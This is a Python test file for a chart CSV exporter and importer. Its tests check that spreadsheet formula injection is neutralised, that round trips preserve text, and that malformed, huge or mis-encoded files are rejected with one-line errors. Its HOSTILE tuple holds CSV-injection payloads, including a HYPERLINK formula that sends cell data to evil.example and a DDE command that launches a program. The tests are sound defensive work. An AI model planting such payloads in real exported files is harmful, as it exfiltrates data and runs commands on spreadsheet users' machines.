"""Chart CSV handed to spreadsheets and taken from strangers: no live formulas, no tracebacks."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from organiser.errors import ImportRejected
from organiser.flyers.chart_csv import chart_csv_text, parse_chart_csv, read_chart_csv, write_chart_csv
from organiser.flyers.csv_safety import neutralise, restore
from organiser.flyers.model import Cell, ComparisonTable, Criterion

HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'=already quoted", "''+twice")


def _table(cells: tuple[str, ...]) -> ComparisonTable:
    return ComparisonTable("t", ("A", "B"), tuple(Criterion(f"c{i}", (Cell(text), Cell("ok")))
                                                  for i, text in enumerate(cells)))


def test_exported_cells_never_start_a_formula(tmp_path: Path) -> None:
    table = ComparisonTable("t", ("=A", "+B"), (Criterion("@label", tuple(Cell(x) for x in HOSTILE[:2])),),
                            criterion_heading="-heading")
    out = tmp_path / "chart.csv"
    write_chart_csv(table, out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    for cell in (c for row in rows for c in row):
        assert not cell or cell[0] not in "=+-@\t\r", cell
    assert rows[0] == ["'-heading", "'=A", "'+B"]


def test_a_round_trip_keeps_every_text() -> None:
    table = _table(HOSTILE)
    back = parse_chart_csv(chart_csv_text(table), "chart.csv")
    # Import strips surrounding white space from cells, as it always did: compare what survives that.
    assert [c.cells[0].text for c in back.criteria] == [t.strip() for t in HOSTILE]


@given(st.text(max_size=30))
def test_neutralise_then_restore_is_the_identity(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text) or neutralise(text)[0] not in "=+-@\t\r"


def test_bare_cr_line_endings_import(tmp_path: Path) -> None:
    path = tmp_path / "mac.csv"
    path.write_bytes(b",A,B\rFirst,Yes.,No.\rSecond,x,y\r")
    table = read_chart_csv(path)
    assert [c.label for c in table.criteria] == ["First", "Second"]
    assert table.criteria[0].cells[0].verdict == "yes"


def test_a_cell_over_131072_characters_is_one_line_with_its_line_number(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_bytes(b",A,B\nrow,x,y\nrow2," + b"x" * 140_000 + b",y\n")
    with pytest.raises(ImportRejected, match=r"long.csv: line 3: a cell is longer than 131,072 characters"):
        read_chart_csv(path)


def test_odd_length_utf16_is_refused_plainly(tmp_path: Path) -> None:
    path = tmp_path / "u16.csv"
    path.write_bytes(",A,B\nrow,x,y\n".encode("utf-16") + b"\x00")
    with pytest.raises(ImportRejected, match="not valid UTF-16"):
        read_chart_csv(path)


def test_a_huge_csv_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with open(path, "wb") as fh:
        fh.truncate(50 * 1024 * 1024)
    with pytest.raises(ImportRejected, match="MB a chart CSV may have"):
        read_chart_csv(path)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=400) | st.text(alphabet=st.sampled_from(list(",;\t\r\n\"'=+-@ aéЖ\x00")), max_size=200)
       .map(lambda s: s.encode("utf-8")))
def test_any_bytes_import_or_are_one_plain_line(tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    path = tmp_path_factory.mktemp("fuzz") / "fuzz.csv"
    path.write_bytes(data)
    try:
        read_chart_csv(path)
    except ImportRejected as err:
        assert "\n" not in str(err) and "fuzz.csv" in str(err)
